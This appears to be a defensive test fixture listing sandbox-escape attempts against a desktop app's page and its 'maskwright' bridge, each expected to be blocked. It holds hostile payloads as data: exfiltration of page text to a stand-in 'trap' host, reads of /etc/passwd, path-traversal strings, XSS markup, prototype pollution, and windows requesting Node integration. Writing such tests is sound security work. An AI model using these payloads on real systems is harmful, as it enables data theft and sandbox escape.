/** One way out that a script in the page may try, and the only thing that may come of it. */
export interface Attempt {
  readonly name: string;
  readonly script: string;
  readonly outcome: unknown;
}

/** Reading what is not the page's. */
export const readings: readonly Attempt[] = [
  {
    name: 'fetch of files',
    script: `return Promise.all(['file:///etc/passwd', 'file://localhost/etc/hosts', 'filesystem:file:///temporary/a']
      .map((url) => fault(() => fetch(url))));`,
    outcome: ['TypeError', 'TypeError', 'TypeError'],
  },
  {
    name: 'fetch over the network, with and without CORS',
    script: `return Promise.all([fetch.bind(null, trap), fetch.bind(null, trap, { mode: 'no-cors' }),
      fetch.bind(null, trap, { method: 'POST', body: document.body.innerText, keepalive: true })].map(fault));`,
    outcome: ['TypeError', 'TypeError', 'TypeError'],
  },
  {
    name: 'fetch of other schemes',
    script: `return Promise.all(['ftp://127.0.0.1/', 'chrome://version', 'devtools://devtools/bundled/devtools_app.html',
      'chrome-extension://a/b', 'data:text/plain,x', 'view-source:studio://app/'].map((url) => fault(() => fetch(url))));`,
    outcome: Array.from({ length: 6 }, () => 'TypeError'),
  },
  {
    name: 'XMLHttpRequest for a file and over the network',
    script: `return Promise.all(['file:///etc/passwd', trap].map((url) => {
      const request = new XMLHttpRequest(); request.open('GET', url);
      const heard = event(request, 'load', 'error'); request.send(); return heard;
    }));`,
    outcome: ['error', 'error'],
  },
  {
    name: 'a way up from the own scheme',
    script: `return Promise.all(['../../../etc/passwd', '/../package.json', '/main.cjs', '/preload.cjs', '/page/index.html',
      '/%2e%2e/%2e%2e/package.json', '/..%2f..%2fetc%2fpasswd', '/..%5c..%5cmain.cjs', '/assets/..%2fmain.cjs', '/%2500', '/index.html%2500.png',
      '/etc/passwd', '/.git/config', '/index.html/', '/assets/', '/image/../../main.cjs',
      '/image/..%2f..%2f1', '/image/1%2500', '/thumbnail/__proto__', '/prediction/..%2f..%2f..%2fetc/passwd', '/sample/../run/1',
      '/' + 'a'.repeat(5000)].map((path) => fetch('studio://app' + (path.startsWith('/') ? path : '/' + path)).then(({ status }) => status)));`,
    outcome: Array.from({ length: 22 }, () => 404),
  },
  {
    name: 'other hosts of the own scheme',
    script: `return Promise.all(['studio://other/', 'studio://app.evil/', 'studio://application/index.html', 'studio:///etc/passwd']
      .map((url) => fault(() => fetch(url))));`,
    outcome: Array.from({ length: 4 }, () => 'TypeError'),
  },
  {
    name: 'writing to the own scheme',
    script: `return Promise.all(['POST', 'PUT', 'DELETE'].map((method) => fetch('studio://app/index.html', { method }).then(({ status }) => status)));`,
    outcome: [405, 405, 405],
  },
  {
    name: 'storage and content of another origin through a frame',
    script: `const frames = ['studio://other/', 'file:///etc/passwd', trap, 'data:text/html,<script>parent.ran=1</script>', 'blob:null/a']
        .map((src) => put('iframe', { src }));
      await rest(600);
      const read = frames.map((frame) => { try { return frame.contentDocument === null ? '' : frame.contentDocument.body.innerText; } catch (error) { return error.name; } });
      frames.forEach((frame) => frame.remove());
      return [...read, typeof window.ran];`,
    outcome: ['', '', '', '', '', 'undefined'],
  },
  {
    name: 'a fresh world in an empty frame',
    script: `const frame = put('iframe', { src: 'about:blank' });
      await rest(100);
      const { contentWindow: fresh } = frame;
      const found = ['maskwright', 'require', 'process', 'electron', 'ipcRenderer'].filter((name) => name in fresh);
      const run = await fault(() => fresh.eval('1'));
      const sent = await fault(() => fresh.fetch(trap));
      const opened = fresh.open(trap);
      frame.remove();
      return [found, run, sent, opened];`,
    outcome: [[], 'EvalError', 'TypeError', null],
  },
  {
    name: 'objects, embeds, applets and webviews',
    script: `const refused = [await fault(() => put('object', { data: 'file:///etc/passwd' })), await fault(() => put('embed', { src: trap }))];
      const view = document.createElement('webview'); view.setAttribute('src', trap); document.body.append(view);
      await rest(500);
      const isTag = typeof view.executeJavaScript; view.remove();
      return [...refused, isTag];`,
    outcome: ['TypeError', 'TypeError', 'undefined'],
  },
];

/** Sending something out. */
export const sendings: readonly Attempt[] = [
  {
    name: 'WebSocket and EventSource',
    script: `const opened = [() => new WebSocket(socketTrap), () => new EventSource(trap)];
      return Promise.all(opened.map(async (open) => { try { return await event(open(), 'open', 'error'); } catch (error) { return error.name; } }));`,
    outcome: ['error', 'error'],
  },
  {
    name: 'beacons and pings',
    script: `navigator.sendBeacon(trap, 'secret');
      const link = put('a', { href: trap, ping: trap }); link.click(); link.remove(); await rest(300);
      return location.href;`,
    outcome: 'studio://app/',
  },
  {
    name: 'pictures, sounds, fonts and styles from outside',
    script: `const heard = [event(put('img', { src: trap }), 'load', 'error'), event(put('img', { src: 'file:///usr/share/pixmaps/debian-logo.png' }), 'load', 'error'),
        event(put('audio', { src: trap }), 'loadeddata', 'error'), event(put('link', { rel: 'stylesheet', href: trap }), 'load', 'error')];
      const font = fault(() => new FontFace('a', 'url(' + trap + ')').load());
      document.body.style.backgroundImage = 'url(' + trap + ')';
      const [sheet] = document.styleSheets; sheet.insertRule('#app::after { content: url(' + trap + ') }', sheet.cssRules.length);
      await rest(300);
      document.body.style.backgroundImage = ''; sheet.deleteRule(sheet.cssRules.length - 1);
      document.querySelectorAll('body > img, body > audio, body > link').forEach((each) => each.remove());
      return Promise.all([...heard, font]);`,
    outcome: ['error', 'error', 'error', 'error', 'NetworkError'],
  },
  {
    name: 'hints: prefetch, preconnect, names, preload, manifest, icon',
    script: `['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'icon']
        .map((rel) => { const hint = put('link', { rel, href: trap, as: 'image' }); document.head.append(hint); return hint; })
        .forEach((hint) => setTimeout(() => hint.remove(), 700));
      await rest(800);
      return document.querySelectorAll('link[href^="http"]').length;`,
    outcome: 0,
  },
  {
    name: 'a call between browsers (WebRTC)',
    script: `const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + packetTrap },
        { urls: 'turn:' + packetTrap, username: 'a', credential: 'b' }, { urls: 'turn:' + trap.slice(7) + '?transport=tcp', username: 'a', credential: 'b' }] });
      const found = []; call.onicecandidate = ({ candidate }) => { if (candidate && candidate.candidate) found.push(candidate.candidate); };
      call.createDataChannel('a'); await call.setLocalDescription(await call.createOffer());
      await rest(1500); call.close();
      return found.filter((line) => !/ tcp /i.test(line) && /typ (srflx|relay|host)/.test(line) && !/\\.local /.test(line));`,
    outcome: [],
  },
  {
    name: 'forms',
    script: `const form = put('form', { action: trap, method: 'post' });
      const field = document.createElement('input'); field.name = 'a'; field.value = 'secret'; form.append(field);
      form.submit(); form.target = '_blank'; form.submit();
      form.action = 'file:///tmp/a'; form.target = ''; form.submit();
      await rest(400); form.remove(); return location.href;`,
    outcome: 'studio://app/',
  },
];

/** Running something else. */
export const runnings: readonly Attempt[] = [
  {
    name: 'code out of text',
    script: `window.ran = 0;
      const made = [await fault(() => eval('window.ran = 1')), await fault(() => new Function('window.ran = 1')()),
        await fault(() => (async () => undefined).constructor('window.ran = 1')()), await fault(() => setTimeout('window.ran = 1'))];
      await rest(100);
      return [made.filter((each) => each.startsWith('DONE') && !/^DONE \\d+$/.test(each)), window.ran];`,
    outcome: [[], 0],
  },
  {
    name: 'modules from the network, from text and from a blob',
    script: `const blob = URL.createObjectURL(new Blob(['window.ran = 1'], { type: 'text/javascript' }));
      return Promise.all([() => import(trap), () => import('data:text/javascript,window.ran=1'), () => import(blob), () => import('file:///tmp/a.mjs'), () => import('fs')].map(fault));`,
    outcome: Array.from({ length: 5 }, () => 'TypeError'),
  },
  {
    name: 'workers from text, from a blob and from the network',
    script: `const blob = URL.createObjectURL(new Blob(['fetch(1)'], { type: 'text/javascript' }));
      return Promise.all([() => new Worker(blob), () => new Worker('data:text/javascript,1'), () => new Worker(trap), () => new SharedWorker(blob),
        () => CSS.paintWorklet ? CSS.paintWorklet.addModule(blob) : Promise.reject(new TypeError()),
        () => new AudioContext().audioWorklet.addModule(blob)].map(fault)).then((all) => all.filter((each) => each.startsWith('DONE')));`,
    outcome: [],
  },
  {
    name: 'a service worker',
    script: `return fault(() => navigator.serviceWorker.register('studio://app/assets/a.js'));`,
    outcome: 'TypeError',
  },
  {
    name: 'markup out of text, by every door',
    script: `window.ran = 0;
      const text = '<img src=x onerror="window.ran=1"><script>window.ran=1</' + 'script>';
      const box = put('div', {});
      const doors = [() => { box.innerHTML = text; }, () => { box.outerHTML = text; }, () => box.insertAdjacentHTML('beforeend', text),
        () => document.write(text), () => new DOMParser().parseFromString(text, 'text/html'), () => document.createRange().createContextualFragment(text),
        () => { put('iframe', {}).srcdoc = text; }, () => document.execCommand('insertHTML', false, text) && undefined,
        () => { const one = put('script', {}); one.text = 'window.ran=1'; }, () => { put('script', {}).src = trap; },
        () => { const one = document.createElement('script'); one.append('window.ran=1'); document.body.append(one); },
        () => { const one = put('button', {}); one.setAttribute('onclick', 'window.ran=1'); one.click(); one.remove(); },
        () => trustedTypes.createPolicy('mine', { createHTML: (each) => each }), () => trustedTypes.createPolicy('default', { createHTML: (each) => each }),
        () => trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (each) => each })];
      for (const door of doors) { await fault(door); }
      await rest(300);
      const left = box.querySelectorAll('img, script').length;
      box.remove(); document.querySelectorAll('body > iframe, body > script').forEach((each) => each.remove());
      return [window.ran, left];`,
    outcome: [0, 0],
  },
  {
    name: 'Node and Electron by name',
    script: `return ['require', 'process', 'module', 'exports', 'global', 'Buffer', '__dirname', 'electron', 'ipcRenderer', 'webFrame', 'nodeRequire', 'isolatedWorld']
      .filter((name) => name in window);`,
    outcome: [],
  },
  {
    name: 'Node and Electron through the functions of the bridge',
    script: `const { maskwright } = window;
      const pending = maskwright.request(1e9, 'desktop.versions', {});
      const answer = await pending;
      const mine = [Object.getPrototypeOf(maskwright) === Object.prototype,
        ...Object.values(maskwright).flatMap((each) => [each.constructor === Function, Object.getPrototypeOf(each) === Function.prototype]),
        pending.constructor === Promise, Object.getPrototypeOf(answer) === Object.prototype, Object.getPrototypeOf(answer.result) === Object.prototype];
      const thrown = await maskwright.request().then((each) => each.error.code, (error) => error.constructor === Error || error.constructor === TypeError);
      const made = Object.values(maskwright).map((each) => { try { return each.constructor('return typeof process')(); } catch (error) { return error.name; } });
      return [Object.keys(maskwright).sort(), mine.filter((each) => !each).length, thrown, made];`,
    outcome: [
      ['abort', 'listen', 'pathOf', 'request'],
      0,
      'not-allowed',
      ['EvalError', 'EvalError', 'EvalError', 'EvalError'],
    ],
  },
  {
    name: 'spying on the bridge by replaced built-ins',
    script: `const seen = new Set(); const kept = {};
      const spy = (owner, name) => { kept[name] = [owner, owner[name]]; const { [name]: old } = owner;
        owner[name] = function (...given) { [this, ...given].forEach((each) => { if (each && (typeof each === 'object' || typeof each === 'function'))
          ['sendSync', 'invoke', 'sendToHost', 'exposeInMainWorld', 'getURL', 'binding'].forEach((key) => { try { if (key in each) seen.add(key); } catch {} }); });
          return Reflect.apply(old, this, given); }; };
      spy(Function.prototype, 'call'); spy(Function.prototype, 'apply'); spy(Function.prototype, 'bind'); spy(Array.prototype, 'push'); spy(Array.prototype, 'map');
      spy(Promise.prototype, 'then'); spy(Object, 'keys'); spy(JSON, 'stringify'); spy(Map.prototype, 'get'); spy(Map.prototype, 'set');
      await window.maskwright.request(1e9, 'desktop.versions', {}); window.maskwright.abort(1e9); window.maskwright.listen(() => undefined);
      for (const [name, [owner, old]] of Object.entries(kept)) owner[name] = old;
      return [...seen];`,
    outcome: [],
  },
  {
    name: 'a bridge of one’s own in place of the real one',
    script: `const { maskwright } = window; const { request } = maskwright;
      try { maskwright.request = () => Promise.resolve('mine'); } catch {}
      try { Object.defineProperty(window, 'maskwright', { value: { request: () => Promise.resolve('mine') } }); } catch {}
      try { delete window.maskwright; } catch {}
      return window.maskwright !== undefined && window.maskwright.request === request;`,
    outcome: true,
  },
];

/** Leaving, opening, storming. */
export const leavings: readonly Attempt[] = [
  {
    name: 'new windows',
    script: `return [trap, 'file:///etc/passwd', 'about:blank', 'studio://app/', 'data:text/html,a', 'devtools://devtools/bundled/inspector.html', 'chrome://gpu', 'javascript:1']
      .map((url) => { const opened = window.open(url, '_blank', 'nodeIntegration=yes,contextIsolation=no,webSecurity=no,sandbox=no,preload=/tmp/a.js'); return opened === null || opened.closed; });`,
    outcome: Array.from({ length: 8 }, () => true),
  },
  {
    name: 'other addresses for this window',
    script: `window.ran = 0;
      for (const url of [trap, 'file:///etc/passwd', 'data:text/html,a', 'chrome://gpu', 'studio://other/', 'javascript:window.ran=1', 'mailto:a@example.com', 'ssh://example.com', 'devtools://devtools/']) {
        for (const go of [() => { location.href = url; }, () => { location.replace(url); }, () => { const link = put('a', { href: url }); link.click(); link.remove(); }]) {
          try { go(); } catch {}
        }
      }
      await rest(800);
      return [location.href, window.ran];`,
    outcome: ['studio://app/', 0],
  },
  {
    name: 'a refresh and a base from a tag',
    script: `const refresh = document.createElement('meta'); refresh.httpEquiv = 'refresh'; refresh.content = '0;url=' + trap; document.head.append(refresh);
      const base = document.createElement('base'); base.href = trap + '/'; document.head.prepend(base);
      await rest(500);
      const at = [location.href, document.baseURI]; refresh.remove(); base.remove(); return at;`,
    outcome: ['studio://app/', 'studio://app/'],
  },
  {
    name: 'a false address in the bar',
    script: `return Promise.all([() => history.pushState({}, '', trap), () => history.replaceState({}, '', 'file:///etc/passwd'), () => { document.domain = 'example.com'; },
      () => navigator.registerProtocolHandler('web+mask', trap + '/%s', 'a')].map(fault)).then((all) => all.filter((each) => each.startsWith('DONE')));`,
    outcome: [],
  },
  {
    name: 'a file for the disk',
    script: `const text = URL.createObjectURL(new Blob(['secret'], { type: 'application/octet-stream' }));
      for (const href of [text, 'data:application/octet-stream,secret', 'studio://app/index.html']) {
        const link = put('a', { href, download: 'escaped.txt' }); link.click(); link.remove();
      }
      await rest(500);
      return location.href;`,
    outcome: 'studio://app/',
  },
  {
    name: 'a storm of dialogs',
    script: `const begun = performance.now();
      for (let i = 0; i < 200; i += 1) { window.alert('a'); window.confirm('a'); await fault(() => window.prompt('a')); }
      window.print(); put('iframe', { src: 'about:blank' }).contentWindow.print(); document.querySelector('body > iframe').remove();
      return [window.confirm('a'), performance.now() - begun < 5000];`,
    outcome: [false, true],
  },
];

/** Asking the system. */
export const askings: readonly Attempt[] = [
  {
    name: 'camera, microphone and screen',
    script: `return Promise.all([() => navigator.mediaDevices.getUserMedia({ video: true }), () => navigator.mediaDevices.getUserMedia({ audio: true }),
      () => navigator.mediaDevices.getUserMedia({ video: { mandatory: { chromeMediaSource: 'desktop' } } }), () => navigator.mediaDevices.getDisplayMedia({ video: true })].map(fault))
      .then((all) => all.filter((each) => each.startsWith('DONE')));`,
    outcome: [],
  },
  {
    name: 'the place of this computer',
    script: `return new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('DONE'), ({ code }) => resolve(code), { timeout: 3000 }));`,
    outcome: 1,
  },
  {
    name: 'notifications, full screen, pointer, wake lock',
    script: `return [await Notification.requestPermission(), await Promise.race([fault(() => document.body.requestFullscreen()), rest(500).then(() => document.fullscreenElement)]),
      document.pointerLockElement];`,
    outcome: ['denied', null, null],
  },
  {
    name: 'the clipboard, read',
    script: `return Promise.all([() => navigator.clipboard.readText(), () => navigator.clipboard.read()].map(fault));`,
    outcome: ['NotAllowedError', 'NotAllowedError'],
  },
  {
    name: 'devices: MIDI, USB, serial, HID, Bluetooth',
    script: `const { usb, serial, hid, bluetooth } = navigator;
      const asked = [() => navigator.requestMIDIAccess({ sysex: true }), usb && (() => usb.requestDevice({ filters: [{ vendorId: 1 }] })),
        serial && (() => serial.requestPort()), hid && (() => hid.requestDevice({ filters: [] }).then((found) => { if (found.length === 0) throw new Error(); })), bluetooth && (() => bluetooth.requestDevice({ acceptAllDevices: true }))];
      return Promise.all(asked.filter(Boolean).map((each) => Promise.race([fault(each), rest(2500).then(() => 'nothing')]))).then((all) => all.filter((each) => each.startsWith('DONE')));`,
    outcome: [],
  },
  {
    name: 'the file system',
    script: `const asked = ['showOpenFilePicker', 'showSaveFilePicker', 'showDirectoryPicker', 'chooseFileSystemEntries'].filter((name) => name in window && name === 'chooseFileSystemEntries');
      const old = await new Promise((resolve) => window.webkitRequestFileSystem ? window.webkitRequestFileSystem(1, 1024, (system) => resolve(system.root.fullPath + system.name), () => resolve('refused')) : resolve('refused'));
      return [asked, /etc|home|Users/.test(old)];`,
    outcome: [[], false],
  },
];

/** Through the bridge to main. */
export const messages: readonly Attempt[] = [
  {
    name: 'prototypes over the bridge',
    script: `const params = [JSON.parse('{"__proto__":{"polluted":1}}'), JSON.parse('{"constructor":{"prototype":{"polluted":1}}}'), JSON.parse('{"theme":"dark","__proto__":{"polluted":1}}')];
      await Promise.all(params.flatMap((each) => ['desktop.theme', 'studio.status', 'desktop.versions'].map((method) => ask(method, each))));
      return {}.polluted;`,
    outcome: undefined,
  },
  {
    name: 'methods that are in no table',
    script: `return Promise.all(['desktop.constructor', 'desktop.toString', 'desktop.hasOwnProperty', 'desktop.quit', 'desktop.valueOf', 'studio.eval', 'studio.exit', 'object.constructor']
      .map((method) => ask(method, {})));`,
    outcome: Array.from({ length: 8 }, () => 'bad-request'),
  },
  {
    name: 'methods that are no names',
    script: `return Promise.all(['', '__proto__', 'constructor', 'desktop.', 'desktop.__proto__', 'desktop.a.b', 'desktop.' + 'a'.repeat(1e5), 7, null, {}, ['desktop.versions']]
      .map((method) => ask(method, {}).catch(() => 'not-allowed')));`,
    outcome: Array.from({ length: 11 }, () => 'not-allowed'),
  },
  {
    name: 'forged params for what main does itself',
    script: `const nul = String.fromCharCode(0);
      return Promise.all([['desktop.chooseFolder', { title: 'a', start: '/tmp' + nul + '/x', create: false }], ['desktop.chooseFile', { title: 'a', start: nul, endings: [] }],
        ['desktop.chooseFile', { title: 'a'.repeat(1e6), start: null, endings: [] }], ['desktop.chooseSave', { title: 'a', name: 'b'.repeat(1e6) }], ['desktop.chooseFolder', null], ['desktop.chooseFolder', []],
        ['desktop.menu', { menus: [{ label: 'a', items: [{ kind: 'role', role: 'forceReload', label: 'a' }] }] }], ['desktop.menu', { menus: [{ label: 'a', items: [{ kind: 'project', label: 'a', folder: '/x' + nul }] }] }],
        ['desktop.theme', { theme: 'constructor' }], ['desktop.theme', 'dark'], ['project.open', { folder: '/tmp' + nul }], ['project.open', { folder: 'x'.repeat(1e6) }]]
        .map(([method, params]) => ask(method, params)));`,
    outcome: Array.from({ length: 12 }, () => 'bad-request'),
  },
  {
    name: 'the developer tools',
    script: `await ask('desktop.menu', { menus: [{ label: 'a', items: [{ kind: 'role', role: 'toggleDevTools', label: 'a' }] }] });
      for (const key of ['F12', 'I', 'i']) window.dispatchEvent(new KeyboardEvent('keydown', { key, ctrlKey: true, shiftKey: true, bubbles: true }));
      await rest(300);
      return location.href;`,
    outcome: 'studio://app/',
  },
  {
    name: 'a flood of calls',
    script: `const answers = await Promise.all(Array.from({ length: 5000 }, (_, i) => window.maskwright.request(2e9 + i, 'studio.status', {})));
      const codes = new Set(answers.map((answer) => answer.error ? answer.error.code : 'answered'));
      return [answers.length, [...codes].every((code) => code === 'answered' || code === 'busy'), await ask('studio.status', {})];`,
    outcome: [5000, true, 'DONE'],
  },
];
